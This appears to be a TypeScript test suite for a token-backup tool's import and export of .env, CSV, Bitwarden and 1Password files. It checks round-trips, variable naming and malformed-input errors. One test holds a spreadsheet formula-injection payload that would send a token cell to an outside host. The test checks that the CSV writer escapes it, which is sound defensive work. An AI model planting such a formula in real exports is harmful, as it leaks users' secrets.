import { execFileSync } from 'node:child_process';
import { parseEnv } from 'node:util';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { madeTokens } from '../../test/support/made-tokens';
import { anyToken } from '../../test/support/random-tokens';
import type { BackupToken } from '../messages/protocol';
import { LARGEST } from './file';
import { FORMATS, readFile, type FormatId } from './formats';
import { recognise } from './recognise';

const NOW = new Date('2026-11-27T12:00:00.000Z');
const IDS: readonly FormatId[] = ['env', 'csv', 'bitwarden', 'one_password'];
const bytesOf = (text: string) => new TextEncoder().encode(text);
const [first] = madeTokens(1, '2026-11-02T10:00:00.000Z');
const made = (changed: Partial<BackupToken>): BackupToken => ({
  ...(first as BackupToken),
  kind: 'personal',
  ...changed,
});

/** Written, and read as a file of that name. */
function there(id: FormatId, tokens: readonly BackupToken[]) {
  const { ending, write } = FORMATS[id];
  const read = readFile(`seenonce${ending}`, bytesOf(write(tokens)));
  if (!read.ok) throw new Error(`${read.problem.flaw} in line ${read.problem.line}`);
  return recognise(read.entries, {}, NOW);
}

/** Without what a vault gives anew. */
function lasting(token: BackupToken): Omit<BackupToken, 'id' | 'savedAt'> {
  const { id: _, savedAt: __, ...rest } = token;
  return rest;
}

describe.each(IDS)('%s', (id) => {
  test('gives back every token whole, and sees it to be one', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(anyToken, { minLength: 1, maxLength: 4, selector: ({ secret }) => secret }),
        (tokens) => {
          const back = there(id, tokens);
          expect(back.map(({ token: one }) => one)).toEqual(tokens.map(lasting));
          expect(back.map(({ doubt }) => doubt)).toEqual(tokens.map(() => null));
        },
      ),
      { numRuns: 500 },
    );
  });

  test('with the mark that Windows puts at its beginning', () => {
    const { ending, write } = FORMATS[id];
    const bytes = bytesOf(`\uFEFF${write([made({})])}`);
    expect(readFile(`x${ending}`, bytes)).toEqual(readFile(`x${ending}`, bytes.slice(3)));
  });

  test('is known by its content too', () => {
    const { ending, write } = FORMATS[id];
    const bytes = bytesOf(write([made({})]));
    expect(readFile('tokens.txt', bytes)).toEqual(readFile(`x${ending}`, bytes));
  });
});

describe('.env', () => {
  const file = FORMATS.env.write([
    made({ secret: 'z'.repeat(60) }),
    made({ secret: 'y'.repeat(60) }),
    made({ origin: 'https://sandbox.zenodo.org', secret: 'x'.repeat(60) }),
    made({ provider: 'speckle', origin: 'https://speckle.example.edu', secret: 'a'.repeat(42) }),
    made({ provider: 'speckle', origin: 'https://app.speckle.systems', secret: 'b'.repeat(42) }),
    made({ provider: 'osf', origin: 'https://test.osf.io', secret: 'o'.repeat(70) }),
    made({ provider: 'other', kind: 'token', origin: 'https://1st.example.org', secret: `it's` }),
  ]);
  const variables = {
    ZENODO_ACCESS_TOKEN: 'z'.repeat(60),
    ZENODO_ACCESS_TOKEN_2: 'y'.repeat(60),
    ZENODO_SANDBOX_ACCESS_TOKEN: 'x'.repeat(60),
    SPECKLE_SERVER_URL: 'https://speckle.example.edu',
    SPECKLE_TOKEN: 'a'.repeat(42),
    SPECKLE_SERVER_URL_2: 'https://app.speckle.systems',
    SPECKLE_TOKEN_2: 'b'.repeat(42),
    // Not OSF_TOKEN: programs would send it to osf.io.
    TEST_OSF_IO_TOKEN: 'o'.repeat(70),
    _1ST_EXAMPLE_ORG_TOKEN: `it's`,
  };

  test('has each variable once, under the name that programs look for', () => {
    expect(parseEnv(file)).toEqual(variables);
  });

  test('does the same in a shell', () => {
    const shown = execFileSync('sh', ['-c', `set -a\n${file}\nenv`], { encoding: 'utf8' });
    expect(shown.split('\n')).toEqual(
      expect.arrayContaining(Object.entries(variables).map(([name, value]) => `${name}=${value}`)),
    );
  });
});

test('a name that is a formula does not run beside a token; control: as 1Password wants it, it would', () => {
  const name = '=HYPERLINK("https://example.org/?"&B2)';
  const cells = (id: FormatId) => FORMATS[id].write([made({ name })]);
  expect(cells('csv')).toContain(`"'=HYPERLINK`);
  expect(cells('one_password')).toContain('"=HYPERLINK');
});

describe('a file of which nothing is taken', () => {
  const HEAD = 'name,url,username,password\r\n';
  test.each([
    ['empty', 'x.env', bytesOf(' \n'), 'empty', null],
    ['too large', 'x.env', new Uint8Array(LARGEST + 1).fill(0x61), 'too_large', null],
    ['binary', 'x.env', bytesOf('A=1\0\u0001'), 'binary', null],
    ['UTF-16', 'x.csv', new Uint8Array([0xff, 0xfe, 0x61, 0]), 'utf_16', null],
    ['not UTF-8', 'x.env', new Uint8Array([...bytesOf('A=1\nB='), 0xfc, 0x0a]), 'not_utf_8', 2],
    ['a zip', 'x.1pux', bytesOf('PK\u0003\u0004rest'), 'archive', null],
    ['our own backup', 'x.age', bytesOf('age-encryption.org/v1\n'), 'backup', null],
    ['.env without values', 'x.env', bytesOf('# nothing\nA=\n'), 'no_entries', null],
    ['.env with prose', 'x.env', bytesOf('A=1\nHello EXAMPLE\n'), 'no_assignment', 2],
    ['CSV without a column for tokens', 'x.csv', bytesOf('name,url\na,b\n'), 'no_secret_column', 1],
    ['CSV with a cell too few', 'x.csv', bytesOf(`${HEAD}a,b,c,d\r\na,b,c\r\n`), 'cells', 3],
    ['CSV with a cell too many', 'x.csv', bytesOf(`${HEAD}a,b,c,"d\r\ne"\r\na,b,c,d,e\r\n`), 'cells', 4],
    ['CSV with an open quote', 'x.csv', bytesOf(`${HEAD}a,b,c,"d\r\n`), 'open_quote', 2],
    ['JSON that ends too early', 'x.json', bytesOf('{\n"items": [\n{'), 'json_end', 3],
    ['JSON of something else', 'x.json', bytesOf('{"logins": []}'), 'not_bitwarden', null],
    [
      'JSON with items of something else',
      'x.json',
      bytesOf('{"items": [\n{"login": {}}]}'),
      'not_bitwarden',
      2,
    ],
    [
      'Bitwarden, encrypted',
      'x.json',
      bytesOf('{"encrypted": true, "data": "2.EXAMPLE"}'),
      'encrypted',
      null,
    ],
    [
      'Bitwarden with a number as password',
      'x.json',
      bytesOf('{"items": [{"type": 1,\n"login": {"password":\n7}}]}'),
      'not_text',
      3,
    ],
  ])('%s', (_, name, bytes, flaw, line) => {
    expect(readFile(name, bytes)).toEqual({ ok: false, problem: { flaw, line } });
  });
});
